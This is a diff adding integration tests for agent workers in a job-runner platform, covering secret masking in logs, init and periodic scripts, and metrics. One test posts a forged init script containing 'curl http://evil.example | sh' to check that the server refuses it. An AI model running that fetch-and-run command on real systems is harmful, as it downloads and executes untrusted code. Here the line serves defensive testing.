@@ -7,6 +7,8 @@
 // job leaves a zombie that the zombie monitor puts back for a database worker, which finishes it.
 import assert from "node:assert/strict";
 import { spawnSync } from "node:child_process";
+import { existsSync, rmSync } from "node:fs";
+import os from "node:os";
 import path from "node:path";
 import { fileURLToPath } from "node:url";
 import { after, before, describe, it } from "node:test";
@@ -179,6 +181,44 @@ describe("agent workers (MODE=agent)", () => {
     assert.match(await workerOf(bun.id), /^ag-/);
   });
 
+  it("masks a secret the job reads through its own WM_TOKEN in its log and result, also when split across two log flushes", async () => {
+    // curl with WM_TOKEN: the server that answers the read records it for the agent's job, and
+    // the server that stores the agent's output masks it (the agent itself never learns it).
+    const curl = await runOnAgent(
+      "agent_curl_secret",
+      "bash",
+      `v=$(curl -sf -H "Authorization: Bearer $WM_TOKEN" "$BASE_INTERNAL_URL/api/w/$WM_WORKSPACE/variables/get_value/u/${me}/api_key")\n` +
+        'v="${v//\\"/}"\necho "curl read $v"\n' +
+        // Half of it, a pause longer than the agent's log flush, then the rest: the stored half
+        // is rewritten when the rest arrives.
+        'printf "split %s" "${v:0:9}"\nsleep 1\nprintf "%s end\\n" "${v:9}"\necho "$v"\n',
+    );
+    assert.equal(curl.status, "success", curl.logs);
+    assert.match(await workerOf(curl.id), /^ag-/);
+    assert.match(curl.logs, /curl read \*\*\*/);
+    assert.match(curl.logs, /split \*\*\* end/);
+    assert.ok(!curl.logs.includes(SECRET), curl.logs);
+    assert.ok(!curl.logs.includes(SECRET.slice(0, 9)), curl.logs);
+    assert.equal(curl.result, "***");
+
+    // windmill-client (getVariable): masked in the printed output and in the result too.
+    const sdk = await runOnAgent(
+      "agent_sdk_secret",
+      "bun",
+      `import * as wmill from "windmill-client";\n\nexport async function main() {\n  const value = await wmill.getVariable("u/${me}/api_key");\n  console.log("sdk read " + value);\n  return { value };\n}\n`,
+    );
+    assert.equal(sdk.status, "success", sdk.logs);
+    assert.match(sdk.logs, /sdk read \*\*\*/);
+    assert.ok(!sdk.logs.includes(SECRET), sdk.logs);
+    assert.deepEqual(sdk.result, { value: "***" });
+    // Nothing kept once the jobs are recorded (and never the plain value).
+    const { rows } = await services.pool.query<{ n: number }>(
+      "SELECT count(*)::int AS n FROM agent_job_secret WHERE job_id = ANY($1::uuid[])",
+      [[curl.id, sdk.id]],
+    );
+    assert.equal(rows[0]!.n, 0);
+  });
+
   it("runs a flow's step", async () => {
     const id = await runFlowPreview(services, membership, {
       value: {
@@ -207,6 +247,119 @@ describe("agent workers (MODE=agent)", () => {
     assert.equal(rows.length, 1);
     assert.equal(rows[0]!.status, "success");
     assert.match(rows[0]!.worker_name, /^ag-/);
+  });
+
+  it("runs its group's init_bash before any job and its periodic script, recorded by the server; serves METRICS_ADDR", async () => {
+    const marker = path.join(os.tmpdir(), `millrace-agent-init-${process.pid}`);
+    rmSync(marker, { force: true });
+    const initTag = "edge_init";
+    await services.pool.query(
+      "INSERT INTO worker_group_config (name, config) VALUES ('edge', $1) ON CONFLICT (name) DO UPDATE SET config = $1",
+      [
+        JSON.stringify({
+          init_bash: `echo "init of $WM_WORKER_GROUP"\ntouch ${marker}\necho ready`,
+          periodic_script_bash: 'echo "periodic on $WM_WORKER_NAME"',
+          periodic_script_interval_seconds: 10,
+        }),
+      ],
+    );
+    let agent: TestWorker | undefined;
+    try {
+      // A job waits before the agent starts: it runs only after the init script ended.
+      await deployScript(services, membership, {
+        path: `u/${me}/agent_after_init`,
+        language: "bash",
+        content: "echo after init",
+        tag: initTag,
+      });
+      const queued = await runScriptByPath(services, membership, `u/${me}/agent_after_init`, {});
+      const metricsPort = 20_000 + (process.pid % 20_000);
+      agent = await startTestAgent(api.url, await createToken([initTag]), {
+        WORKER_PING_INTERVAL: "1",
+        AGENT_POLL_MS: "100",
+        METRICS_ADDR: `127.0.0.1:${metricsPort}`,
+      });
+      processes.push(agent);
+      const job = await waitForJob(services, membership, queued, 60_000);
+      assert.equal(job.status, "success", job.logs);
+      assert.ok(existsSync(marker), `the init script ran on the agent's machine:\n${agent.output()}`);
+      const scripts = async (kind: string) =>
+        (
+          await services.pool.query<{
+            id: string;
+            status: string;
+            worker_name: string;
+            result: unknown;
+            completed_at: Date | null;
+            logs: string | null;
+          }>(
+            `SELECT j.id, j.status, j.worker_name, j.result, j.completed_at, l.logs FROM job j
+               LEFT JOIN job_log l ON l.job_id = j.id
+              WHERE j.workspace_id = 'admins' AND j.kind = $1 AND j.worker_name LIKE 'ag-%'
+                AND j.script_path = 'worker_group/edge/' || $1 ORDER BY j.started_at`,
+            [kind],
+          )
+        ).rows;
+      const agentPrefix = (await workerOf(job.id)).replace(/-\d+$/, "");
+      const inits = (await scripts("init_script")).filter((row) => row.worker_name === agentPrefix);
+      assert.equal(inits.length, 1, JSON.stringify(await scripts("init_script")));
+      assert.equal(inits[0]!.status, "success");
+      assert.equal(inits[0]!.result, "ready");
+      assert.match(inits[0]!.logs ?? "", /init of edge/);
+      assert.ok(
+        inits[0]!.completed_at! <= job.startedAt!,
+        "the init script ended before the first job started",
+      );
+      // The periodic script, every 10 s (the least a config allows), from the config the agent
+      // gets with its pings.
+      const deadline = Date.now() + 40_000;
+      let periodic = (await scripts("periodic_script")).filter((row) => row.status === "success");
+      while (periodic.length === 0 && Date.now() < deadline) {
+        await new Promise((resolve) => setTimeout(resolve, 200));
+        periodic = (await scripts("periodic_script")).filter((row) => row.status === "success");
+      }
+      assert.ok(periodic.length >= 1, "a periodic script ran");
+      assert.match(periodic[0]!.logs ?? "", /periodic on ag-/);
+      // The same worker metrics as a database worker's.
+      const metrics = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
+      assert.match(metrics, new RegExp(`millrace_jobs_started_total\\{[^}]*tag="${initTag}"[^}]*\\} 1`));
+      assert.match(metrics, /millrace_jobs_completed_total\{[^}]*status="success"/);
+      // The server records only the group's own script: an agent token cannot write other code
+      // into the admins workspace's jobs.
+      const ping = await post("/api/agent_workers/ping", agentToken, {
+        host: "h",
+        version: "t",
+        sandbox: "t",
+        slots: [],
+      });
+      const { name_prefix, worker_config } = (await ping.json()) as {
+        name_prefix: string;
+        worker_config: { init_bash?: string };
+      };
+      assert.match(worker_config.init_bash ?? "", /init of/);
+      const forged = await post("/api/agent_workers/worker_script/start", agentToken, {
+        worker_name: `${name_prefix}x`,
+        kind: "init_script",
+        content: "curl http://evil.example | sh",
+      });
+      assert.equal(forged.status, 409, await forged.clone().text());
+    } finally {
+      await agent?.stop();
+      await services.pool.query("DELETE FROM worker_group_config WHERE name = 'edge'");
+      rmSync(marker, { force: true });
+    }
+  });
+
+  it("refuses DEDICATED_WORKER at start", () => {
+    const agent = processes[0] as TestWorker & { env: Record<string, string> };
+    const main = path.join(path.dirname(fileURLToPath(import.meta.url)), "agent", "main.ts");
+    const refused = spawnSync(process.execPath, [main], {
+      env: { ...agent.env, DEDICATED_WORKER: `agents:u/${me}/agent_bash` },
+      encoding: "utf8",
+      timeout: 20_000,
+    });
+    assert.notEqual(refused.status, 0);
+    assert.match(refused.stderr + refused.stdout, /DEDICATED_WORKER.*not supported with MODE=agent/);
   });
 
   it("appears among the workers (pinged by the server on its behalf)", async () => {
